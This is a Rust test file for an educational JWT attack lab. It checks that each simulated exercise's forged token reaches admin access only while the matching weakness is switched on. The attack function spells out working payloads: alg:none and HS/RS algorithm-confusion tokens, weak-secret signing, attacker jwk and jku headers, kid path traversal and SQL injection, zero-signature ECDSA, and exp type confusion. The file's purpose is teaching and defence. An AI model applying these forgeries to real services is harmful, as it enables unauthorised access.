//! The attack lab's guided exercises (issue 12): each one's goal is reached
//! by its attack with its weakness on, and not with the weakness switched
//! off, where the same attack is refused (401) at the step the lesson names.
//! Setting an exercise up again gives the same start.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::indexing_slicing,
    clippy::panic
)]

use jwt_playground::jwt::{base64url, sign_with, Algorithm, SigningKey};
use jwt_playground::sim::attacker::{
    attacker_key, attacker_public_jwk, twin_signature, ATTACKER_JWKS_URL, ATTACKER_KID,
};
use jwt_playground::sim::exercise::{Exercise, EXERCISES};
use jwt_playground::sim::{
    Exchange, Mode, Request, SeededEntropy, Weakness, World, WorldConfig, WEAK_SECRET,
};
use rand_chacha::rand_core::SeedableRng;
use rand_chacha::ChaCha20Rng;

fn world() -> World {
    let config = WorldConfig {
        pbkdf2_iterations: 50,
        ..WorldConfig::default()
    };
    World::new(config, Box::new(SeededEntropy::new(12))).unwrap()
}

/// Alice's claims with the role changed, as the student edits them.
fn admin_claims(w: &World) -> String {
    let token = w.token().unwrap();
    let claims = token.split('.').nth(1).unwrap();
    let text = String::from_utf8(base64url::decode(claims).unwrap()).unwrap();
    text.replace("\"role\":\"user\"", "\"role\":\"admin\"")
}

fn b64(text: &str) -> String {
    base64url::encode(text.as_bytes())
}

fn hs256(header: &str, claims: &str, key: &[u8]) -> String {
    let input = format!("{}.{}", b64(header), b64(claims));
    let mac = Algorithm::HS256.mac(key, input.as_bytes());
    format!("{input}.{}", base64url::encode(&mac))
}

fn es256(header: &str, claims: &str) -> String {
    let signer = SigningKey::Private {
        key: Box::new(attacker_key().unwrap()),
        kid: Some(ATTACKER_KID.to_string()),
    };
    sign_with(
        Algorithm::ES256,
        header,
        claims,
        &signer,
        &mut ChaCha20Rng::seed_from_u64(5),
    )
    .unwrap()
    .token
}

/// The attack of each exercise, done as a student would; its last exchange.
/// A forged header keeps the issued token's `"typ":"at+jwt"`, as the page's
/// forge panel does: the servers take access tokens only.
fn attack(exercise: &Exercise, w: &mut World) -> Exchange {
    let admin = |w: &mut World, token: String| {
        w.set_token_text(token);
        w.get("/api/admin")
    };
    match exercise.weakness {
        Weakness::AlgNone => {
            let token = format!(
                "{}.{}.",
                b64(r#"{"alg":"none","typ":"at+jwt"}"#),
                b64(&admin_claims(w))
            );
            admin(w, token)
        }
        Weakness::AlgConfusion => {
            let pem = w.issuer().current().unwrap().private.public().to_pem();
            let token = hs256(
                r#"{"alg":"HS256","typ":"at+jwt"}"#,
                &admin_claims(w),
                pem.as_bytes(),
            );
            admin(w, token)
        }
        Weakness::WeakSecret => {
            let token = hs256(
                r#"{"alg":"HS256","typ":"at+jwt"}"#,
                &admin_claims(w),
                WEAK_SECRET.as_bytes(),
            );
            admin(w, token)
        }
        Weakness::TrustJwk => {
            let jwk = attacker_public_jwk().to_compact();
            let token = es256(
                &format!(r#"{{"alg":"ES256","typ":"at+jwt","jwk":{jwk}}}"#),
                &admin_claims(w),
            );
            admin(w, token)
        }
        Weakness::TrustJku => {
            let header = format!(
                r#"{{"alg":"ES256","typ":"at+jwt","kid":"{ATTACKER_KID}","jku":"{ATTACKER_JWKS_URL}"}}"#
            );
            let token = es256(&header, &admin_claims(w));
            admin(w, token)
        }
        Weakness::KidPath => {
            let header = r#"{"alg":"HS256","typ":"at+jwt","kid":"../../../../dev/null"}"#;
            let token = hs256(header, &admin_claims(w), b"");
            admin(w, token)
        }
        Weakness::NoExp => {
            w.advance_clock(3600);
            w.get("/api/profile")
        }
        Weakness::Xss | Weakness::NoHttpOnly => {
            w.open_comments_page();
            w.attacker_send("/api/admin").unwrap()
        }
        Weakness::SameSiteNone => w.visit_attacker_site(),
        Weakness::TokenInUrl => {
            w.get("/api/profile");
            w.follow_link_to_attacker();
            w.attacker_send("/api/admin").unwrap()
        }
        Weakness::NoVerify => {
            let token = hs256(
                r#"{"alg":"HS256","typ":"at+jwt"}"#,
                &admin_claims(w),
                b"anything",
            );
            admin(w, token)
        }
        Weakness::PsychicEcdsa => {
            // Alice's own header (the issuer's kid), her claims made admin,
            // and a signature of 64 zero bytes.
            let issued = w.token().unwrap();
            let header = issued.split('.').next().unwrap().to_string();
            let claims = b64(&admin_claims(w));
            admin(w, format!("{header}.{claims}.{}", "A".repeat(86)))
        }
        Weakness::KidSql => {
            let header =
                r#"{"alg":"HS256","typ":"at+jwt","kid":"x' UNION SELECT 'attacker-key' --"}"#;
            let token = hs256(header, &admin_claims(w), b"attacker-key");
            admin(w, token)
        }
        Weakness::DenylistByString => {
            assert_eq!(w.revoke_token().status(), 200);
            assert_eq!(w.get("/api/profile").status(), 401);
            let twin = twin_signature(&w.token().unwrap()).unwrap();
            w.set_token_text(twin);
            w.get("/api/profile")
        }
        Weakness::ExpString => {
            let claims = admin_claims(w);
            let exp = claims.split("\"exp\":").nth(1).unwrap();
            let number: String = exp.chars().take_while(char::is_ascii_digit).collect();
            let claims = claims.replace(&format!("\"exp\":{number}"), "\"exp\":\"1000000000\"");
            let token = hs256(
                r#"{"alg":"HS256","typ":"at+jwt"}"#,
                &claims,
                w.secret().as_bytes(),
            );
            w.set_token_text(token);
            w.get("/api/profile")
        }
        Weakness::NoAud => {
            // reports.example's ID token, genuine but made for it, used at the API.
            w.sign_in_to_reports();
            let id_token = w.reports_id_token().unwrap();
            admin(w, id_token)
        }
    }
}

#[test]
fn every_exercise_reaches_its_goal_with_its_weakness_on() {
    let mut w = world();
    for exercise in &EXERCISES {
        exercise.set_up(&mut w);
        assert!(
            !exercise.reached(&w),
            "{}: reached before any attack",
            exercise.id()
        );
        let ex = attack(exercise, &mut w);
        assert_eq!(ex.status(), 200, "{}: {}", exercise.id(), ex.response.body);
        assert!(exercise.reached(&w), "{}: goal not seen", exercise.id());
    }
}

#[test]
fn every_exercise_is_refused_with_its_weakness_off() {
    let mut w = world();
    for exercise in &EXERCISES {
        exercise.set_up(&mut w);
        w.set_weakness(exercise.weakness, false);
        // Cookie flags are set at login: the fix needs a new session cookie.
        let (email, password) = exercise.user();
        w.login(email, password);
        let ex = attack(exercise, &mut w);
        assert_eq!(ex.status(), 401, "{}: {}", exercise.id(), ex.response.body);
        assert!(
            ex.trace.why().is_some(),
            "{}: no reason given",
            exercise.id()
        );
        assert!(!exercise.reached(&w), "{}", exercise.id());
    }
}

#[test]
fn logging_in_as_the_admin_is_not_the_goal() {
    let mut w = world();
    let exercise = Exercise::of(Weakness::AlgNone).unwrap();
    exercise.set_up(&mut w);
    w.login("bob@example.com", "builder");
    assert_eq!(w.get("/api/admin").status(), 200);
    assert!(
        !exercise.reached(&w),
        "an issued admin token is not a forged one"
    );
}

#[test]
fn setting_an_exercise_up_again_gives_the_same_start() {
    let mut w = world();
    for exercise in &EXERCISES {
        exercise.set_up(&mut w);
        let first = (
            w.mode(),
            w.weaknesses(),
            w.servers().len(),
            w.now(),
            w.log().len(),
            w.secret().to_string(),
        );
        attack(exercise, &mut w);
        w.add_server();
        w.set_weakness(Weakness::NoExp, !w.weaknesses().contains(&Weakness::NoExp));
        exercise.set_up(&mut w);
        let again = (
            w.mode(),
            w.weaknesses(),
            w.servers().len(),
            w.now(),
            w.log().len(),
            w.secret().to_string(),
        );
        assert_eq!(first, again, "{}", exercise.id());
        assert!(!exercise.reached(&w), "{}", exercise.id());
    }
    // From a session exercise back to a JWT one.
    Exercise::of(Weakness::AlgNone).unwrap().set_up(&mut w);
    assert_eq!(w.mode(), Mode::Jwt);
    assert!(w.token().is_some());
}

#[test]
fn exercises_name_every_weakness_once() {
    for weakness in Weakness::ALL {
        let e = Exercise::of(weakness).unwrap();
        assert_eq!(e.id(), weakness.as_str());
        assert!(!e.steps.is_empty() && !e.hints.is_empty() && !e.fix.is_empty());
    }
    assert_eq!(EXERCISES.len(), Weakness::ALL.len());
    let _ = Request::get("/");
}
